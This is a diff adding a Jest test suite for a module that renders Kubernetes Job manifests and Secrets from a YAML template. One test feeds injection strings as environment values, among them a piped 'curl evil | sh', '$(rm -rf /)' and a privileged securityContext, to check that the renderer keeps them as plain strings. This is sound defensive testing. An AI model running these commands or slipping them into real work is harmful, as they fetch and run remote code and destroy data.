@@ -1,0 +1,162 @@
+import { describe, expect, it } from '@jest/globals'
+import * as fs from 'node:fs'
+import { stringify } from 'yaml'
+import {
+  jobName,
+  parseJobTemplate,
+  quantityValue,
+  renderJob,
+  renderSecret,
+  type JobRenderOptions
+} from '../../src/job/render.js'
+
+const template = parseJobTemplate(
+  fs.readFileSync('templates/test-job.yaml', 'utf8'),
+  'templates/test-job.yaml'
+)
+
+const options: JobRenderOptions = {
+  name: 'tests-abc',
+  namespace: 'example',
+  image: 'example/tests:0123456789ab',
+  args: ['-test.v'],
+  env: {},
+  envFromSecrets: [],
+  deadlineSeconds: 900
+}
+
+const container = (job: ReturnType<typeof renderJob>) => job.spec.template.spec.containers[0]
+
+describe('renderJob', () => {
+  it('renders the default template with the seed shape', () => {
+    const job = renderJob(template, options)
+    expect(job.metadata).toMatchObject({
+      name: 'tests-abc',
+      namespace: 'example',
+      labels: { 'app.kubernetes.io/managed-by': 'in-cluster-test' }
+    })
+    expect(job.spec).toMatchObject({
+      backoffLimit: 0,
+      ttlSecondsAfterFinished: 600,
+      activeDeadlineSeconds: 900
+    })
+    expect(container(job)).toMatchObject({
+      name: 'tests',
+      image: 'example/tests:0123456789ab',
+      imagePullPolicy: 'IfNotPresent',
+      args: ['-test.v']
+    })
+    expect(container(job).env?.[0]).toEqual({
+      name: 'POD_NAMESPACE',
+      valueFrom: { fieldRef: { fieldPath: 'metadata.namespace' } }
+    })
+  })
+
+  it('keeps hostile values as plain strings: no YAML or shell injection', () => {
+    const hostile = {
+      INJECT: 'x\n  command: [sh, -c, "curl evil | sh"]\n  securityContext: {privileged: true}',
+      SHELL: '$(rm -rf /) `id` ; echo pwned',
+      TEMPLATE: '{{ .Values.secret }} ${HOME}',
+      QUOTES: `'"\\`,
+      UNICODE: 'héllo ✓ \u0000\u202e',
+      LONG: 'x'.repeat(100_000)
+    }
+    const job = renderJob(template, {
+      ...options,
+      env: hostile,
+      args: ['-test.run', 'Test\n  command: [sh]']
+    })
+    const c = container(job)
+    for (const [name, value] of Object.entries(hostile))
+      expect(c.env).toContainEqual({ name, value })
+    expect(c.args).toEqual(['-test.run', 'Test\n  command: [sh]'])
+    expect(Object.keys(c).sort()).toEqual([
+      'args',
+      'env',
+      'image',
+      'imagePullPolicy',
+      'name',
+      'resources'
+    ])
+    // Through YAML and back, the values are still single strings and the shape is unchanged.
+    const round = parseJobTemplate(stringify(job), 'round-trip')
+    expect(container(round as never).env).toEqual(c.env)
+    expect((round.spec.template.spec as Record<string, unknown>).securityContext).toBeUndefined()
+  })
+
+  it('references secret-env by key and never carries the values', () => {
+    const job = renderJob(template, {
+      ...options,
+      secretEnv: { secretName: 'tests-abc-env', keys: ['JWT_SECRET'] },
+      envFromSecrets: ['db']
+    })
+    const c = container(job)
+    expect(c.env).toContainEqual({
+      name: 'JWT_SECRET',
+      valueFrom: { secretKeyRef: { name: 'tests-abc-env', key: 'JWT_SECRET' } }
+    })
+    expect(c.envFrom).toEqual([{ secretRef: { name: 'db' } }])
+    expect(JSON.stringify(job)).not.toContain('value":"s3cr3t')
+    const secret = renderSecret('tests-abc-env', 'example', {
+      JWT_SECRET: 's3cr3t'
+    }) as unknown as { stringData: object; type: string }
+    expect(secret).toMatchObject({
+      kind: 'Secret',
+      type: 'Opaque',
+      stringData: { JWT_SECRET: 's3cr3t' }
+    })
+  })
+
+  it('sets limits and keeps requests below them', () => {
+    const c = container(renderJob(template, { ...options, memoryLimit: '64Mi', cpuLimit: '2' }))
+    expect(c.resources).toEqual({
+      limits: { memory: '64Mi', cpu: '2' },
+      requests: { memory: '64Mi', cpu: '100m' }
+    })
+    expect(quantityValue('1Gi')).toBe(2 ** 30)
+    expect(quantityValue('500m')).toBe(0.5)
+  })
+
+  it('overrides a template env entry of the same name instead of duplicating it', () => {
+    const c = container(renderJob(template, { ...options, env: { POD_NAMESPACE: 'fixed' } }))
+    expect(c.env?.filter((e) => e.name === 'POD_NAMESPACE')).toEqual([
+      { name: 'POD_NAMESPACE', value: 'fixed' }
+    ])
+  })
+
+  it('leaves the template object untouched', () => {
+    const before = JSON.stringify(template)
+    renderJob(template, { ...options, env: { A: 'b' }, memoryLimit: '1Gi' })
+    expect(JSON.stringify(template)).toBe(before)
+  })
+})
+
+describe('parseJobTemplate', () => {
+  it('names what a template is instead of a Job', () => {
+    expect(() => parseJobTemplate('apiVersion: apps/v1\nkind: Deployment\n', 't.yaml')).toThrow(
+      'Job template t.yaml: must be a batch/v1 Job, but is a apps/v1 Deployment'
+    )
+    expect(() =>
+      parseJobTemplate(
+        'kind: Job\napiVersion: batch/v1\n---\nkind: Job\napiVersion: batch/v1\n',
+        't.yaml'
+      )
+    ).toThrow(/exactly one object .* found 2/)
+    expect(() => parseJobTemplate('a: [b', 't.yaml')).toThrow(
+      /^Job template t.yaml: is not valid YAML/
+    )
+    expect(() => parseJobTemplate('- a\n- b', 't.yaml')).toThrow(/must be a batch\/v1 Job/)
+    expect(() => parseJobTemplate('apiVersion: batch/v1\nkind: Job\nspec: {}\n', 't.yaml')).toThrow(
+      'Job template t.yaml: has no spec.template.spec.containers'
+    )
+  })
+})
+
+describe('jobName', () => {
+  it('makes DNS-1123 names of at most 63 characters', () => {
+    const n = jobName('Tests_For/My Service'.repeat(5), 'ABC-123-xyz')
+    expect(n.length).toBeLessThanOrEqual(63)
+    expect(n).toMatch(/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/)
+    expect(n.endsWith('abc-123-xyz')).toBe(true)
+  })
+})
